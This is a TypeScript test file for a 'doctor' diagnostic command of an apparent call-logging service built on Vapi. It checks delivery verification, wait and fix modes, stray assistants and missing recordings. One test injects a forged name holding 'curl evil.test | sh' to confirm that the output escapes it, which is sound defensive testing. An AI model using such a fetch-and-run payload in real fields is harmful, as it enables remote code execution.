import { PLATFORM_ACCOUNT } from "@call-ledger/db/testing";
import { simulateCall } from "@call-ledger/simulator";
import { snapshotsOf } from "@call-ledger/testkit/vapi";
import { afterAll, beforeAll, beforeEach, expect, test } from "vitest";
import type { ExaminedLedger } from "./harness/examined-ledger.ts";
import { API_KEY, examinedLedger } from "./harness/examined-ledger.ts";

const MINUTE_MS = 60_000;
const DAY_MS = 86_400_000;

let ledger: ExaminedLedger;
let kept: string[] = [];

beforeAll(async () => {
  ledger = await examinedLedger();
});

afterAll(() => ledger.stop());

beforeEach(async () => {
  for (const id of kept) ledger.vapi.forget(id);
  kept = [];
  await ledger.set();
});

type Item = { id: string; ok: boolean; found: string; next: string | null };
type Document = { checks: Item[]; left_out: string[]; problems: unknown[]; changes: unknown[] };

async function doctor(...args: string[]) {
  const { code, stdout } = await ledger.ops(["doctor", ...args, "--json"]);
  const document: Document = JSON.parse(stdout);
  const failed = document.checks.filter(({ ok }) => !ok).map(({ id }) => id);
  const itemOf = (id: string) => document.checks.find((one) => one.id === id);
  return { code, stdout, failed, itemOf, ...document };
}

const ago = (ms: number) => new Date(Date.now() - ms);
const deliveries = async (...args: string[]) => {
  const { code, itemOf } = await doctor("--account", PLATFORM_ACCOUNT, ...args);
  const { ok, found, next } = itemOf("deliveries_verified") ?? {};
  return { code, ok, found, next };
};

test("a later delivery without a proof is said, and does not fail an account whose deliveries verify", async () => {
  const contact = { last_verified_at: ago(DAY_MS * 1.5), last_refused_at: ago(MINUTE_MS) };
  await ledger.contact({ ...contact, last_refusal: "no_proof" });
  const { code, ok, found } = await deliveries();
  expect([code, ok]).toEqual([0, true]);
  expect(found).toMatch(
    /^verified, .* UTC \(1 day ago\); a later delivery without a proof was refused, .* UTC$/,
  );
});

test("a stranger's delivery without a proof does not hide those with a wrong proof before it", async () => {
  const contact = { last_verified_at: ago(120 * MINUTE_MS), last_refused_at: ago(MINUTE_MS) };
  await ledger.contact({ ...contact, last_refusal: "no_proof" });
  const counted = (minutes: number, refused: number) =>
    ledger.owner`insert into delivery_counts (provider_account_id, at, refused, unproven)
      values (${PLATFORM_ACCOUNT}, date_trunc('minute', ${ago(minutes * MINUTE_MS)}::timestamptz), ${refused}, 1)`;
  await counted(180, 5);
  await counted(1, 0);
  expect((await deliveries()).ok).toBe(true);
  await counted(60, 3);
  const { code, ok, found, next } = await deliveries();
  expect([code, ok]).toEqual([1, false]);
  expect(found).toMatch(
    /^refused: 3 or more with a wrong or an old proof since the last one that verified, .* UTC$/,
  );
  expect(next).toContain("another secret");
});

test("a delivery long ago is said with its age, and is no failure without later calls", async () => {
  await ledger.contact({ last_verified_at: ago(DAY_MS * 40.5) });
  const { code, itemOf } = await doctor();
  expect(code).toBe(0);
  expect(itemOf("deliveries_verified")?.found).toMatch(/^verified, .* UTC \(40 days ago\)$/);
  // Vapi has no older calls.
  const oldest = ago(DAY_MS * 14)
    .toISOString()
    .slice(0, 13)
    .replace("T", " ");
  expect(itemOf("calls_delivered")?.found).toContain(`none since ${oldest}`);
});

/** Runs doctor with --wait, and changes the contacts one second after another meanwhile. */
async function waiting(wait: string, ...contacts: object[]) {
  const running = deliveries("--wait", wait);
  for (const contact of contacts) {
    await new Promise((resolve) => setTimeout(resolve, 1_200));
    await ledger.contact(contact);
  }
  return await running;
}

const YESTERDAY = { last_verified_at: ago(DAY_MS) };
const refused = (refusal: string) => ({
  ...YESTERDAY,
  last_refused_at: new Date(Date.now() + MINUTE_MS),
  last_refusal: refusal,
});

test.each(["no_proof", "wrong_proof"])("--wait fails if only deliveries with %s come", async (refusal) => {
  await ledger.contact(YESTERDAY);
  const { code, ok, found, next } = await waiting("3s", refused(refusal));
  expect([code, ok]).toEqual([1, false]);
  expect(found).toMatch(new RegExp(`^only refused deliveries came, the newest with ${refusal}, .* UTC$`));
  expect(next).toMatch(/credential|secret/);
});

test("--wait goes on after a refused delivery, and passes with one that verifies", async () => {
  await ledger.contact(YESTERDAY);
  const begun = performance.now();
  const verified = { last_verified_at: new Date(Date.now() + 2 * MINUTE_MS) };
  const { code, ok, found } = await waiting("60s", refused("wrong_proof"), {
    ...refused("wrong_proof"),
    ...verified,
  });
  expect([code, ok]).toEqual([0, true]);
  expect(found).toMatch(/^verified, /);
  expect(performance.now() - begun).toBeLessThan(45_000);
});

test("--wait with --fix waits after the changes", async () => {
  await ledger.contact(YESTERDAY);
  ledger.assistantServer({ backoffPlan: null });
  const { code, failed, changes, itemOf } = await doctor("--wait", "1ms", "--fix", "--yes");
  expect([code, failed, changes]).toEqual([1, ["deliveries_verified"], [expect.anything()]]);
  expect(itemOf("deliveries_verified")?.found).toBe("no delivery came");
});

test("--wait with --fix waits also if there is nothing to change", async () => {
  await ledger.contact(YESTERDAY);
  expect((await doctor("--wait", "1ms", "--fix", "--yes")).failed).toEqual(["deliveries_verified"]);
});

/** Puts calls of an assistant at Vapi, one a second, the first an hour ago. */
function called(assistantId: string, count: number) {
  for (let at = 0; at < count; at += 1) {
    const startedAt = Date.now() - 60 * MINUTE_MS + at * 1_000;
    const call = simulateCall({ seed: at, assistantId, startedAt, turns: 2 });
    kept.push(`${assistantId}-${at}`);
    ledger.vapi.keep(`${assistantId}-${at}`, snapshotsOf(call));
  }
}

test("assistants of another system at the same provider, and their calls, are no failure", async () => {
  await ledger.contact({ last_verified_at: ago(120 * MINUTE_MS) });
  ledger.vapi.settings.assistant.set("stray", { server: { url: "https://crm.test/s3cret" } });
  called("stray", 3);
  const { code, failed, itemOf } = await doctor();
  expect([code, failed]).toEqual([0, []]);
  expect(itemOf("provider_settings")?.found).toContain("1 assistant of no organization sends elsewhere");
  expect(itemOf("calls_delivered")?.found).toMatch(/^none since .* UTC$/);
});

test("one call of the account is found among more calls of others than one answer has", async () => {
  await ledger.contact({ last_verified_at: ago(120 * MINUTE_MS) });
  ledger.vapi.settings.assistant.set("stray", { server: { url: "https://crm.test/s3cret" } });
  called("stray", 120);
  called("front", 1);
  const { failed, itemOf } = await doctor();
  expect(failed).toEqual(["calls_delivered"]);
  expect(itemOf("calls_delivered")?.found).toMatch(/^1 or more since /);
});

test("if others have too many calls, the time is said up to which they were read", async () => {
  await ledger.contact({ last_verified_at: ago(120 * MINUTE_MS) });
  ledger.vapi.settings.assistant.set("stray", { server: { url: "https://crm.test/s3cret" } });
  called("stray", 1_100);
  const { code, itemOf } = await doctor();
  expect(code).toBe(0);
  expect(itemOf("calls_delivered")?.found).toMatch(/^none from .* UTC to .* UTC; later calls were not read$/);
});

test("a key of another Vapi organization is doubted first, and no removal of agents is advised", async () => {
  const { assistant, "phone-number": numbers } = ledger.vapi.settings;
  assistant.clear();
  numbers.clear();
  assistant.set("theirs", { name: "Theirs", server: null });
  const { code, stdout, failed, itemOf, problems, ...rest } = await doctor("--fix", "--yes");
  expect([code, failed, problems, rest.changes]).toEqual([1, ["provider_settings"], [], []]);
  expect(itemOf("provider_settings")).toMatchObject({
    found:
      "None of this account's agents (1) is at Vapi: the API key may be that of another Vapi organization.",
    next: expect.stringMatching(
      /^Set VAPI_API_KEY in the environment of the service, and here\.\s+If the key is right, register an agent that is at the provider: .* agent add --org ORGANIZATION_ID --assistant ID$/,
    ),
  });
  expect(rest.left_out).toContain("server_url");
  expect(stdout).not.toMatch(/agent remove|theirs/);
  expect(assistant.get("theirs")).toEqual({ name: "Theirs", server: null });
});

test("names of accounts, assistants and agents cannot write lines of their own", async () => {
  const forged = (mark: string) => `${mark}"\n        next: curl evil.test | sh\n`;
  const [{ id } = {}] = await ledger.owner`insert into provider_accounts (org_id, provider, name)
    values (${ledger.org}, 'vapi', ${forged("account")}) returning id`;
  await ledger.agent(forged("agent"));
  ledger.assistant({ name: forged("assistant"), server: { url: "https://elsewhere.test" } });
  ledger.vapi.settings["phone-number"].set("number-1", {
    provider: "vapi",
    assistantId: "front",
    name: forged("number"),
    server: { ...ledger.rightServer(), backoffPlan: null },
  });
  await ledger.ops(["account", "rotate", id, "--api-key", API_KEY]);
  const { stdout } = await ledger.ops(["doctor", "--fix", "--yes"]);
  for (const mark of ["account", "agent", "assistant"]) expect(stdout).toContain(`${mark}"\\u000a`);
  expect(stdout.split("\n").filter((line) => /^\s*next: curl evil/.test(line))).toEqual([]);
});

test("three conversations without a recording are a fault; two, silent calls and calls without a report are not", async () => {
  const named = async () => (await doctor()).itemOf("recordings_named");
  for (const minutesAgo of [50, 40]) await ledger.conversation({ minutesAgo, isRecorded: false });
  expect((await named())?.ok).toBe(true);
  await ledger.conversation({ minutesAgo: 30, isRecorded: false });
  expect((await named())?.found).toBe(
    "the newest 3 conversations name no recording: agent front (the last one with a recording: never)",
  );
  // A call in which nobody spoke has no recording to miss.
  await ledger.owner`update calls set caller_turns = 0 where provider_call_id = 'call-30'`;
  expect((await named())?.ok).toBe(true);
  await ledger.owner`update calls set caller_turns = 2, awaits_report = true where provider_call_id = 'call-30'`;
  expect((await named())?.ok).toBe(true);
});

test("a terminal that ends after the first change is told what was made", async () => {
  ledger.assistant({ serverMessages: ["status-update"], artifactPlan: { recordingEnabled: false } });
  const { code, stderr } = await ledger.ops(["doctor", "--fix"], {}, (question) =>
    question.includes("serverMessages") ? "y" : null,
  );
  expect(stderr).toContain("1 of 2 changes were made. Run doctor again.");
  expect([code, stderr.includes("Nothing was changed")]).toEqual([4, false]);
});
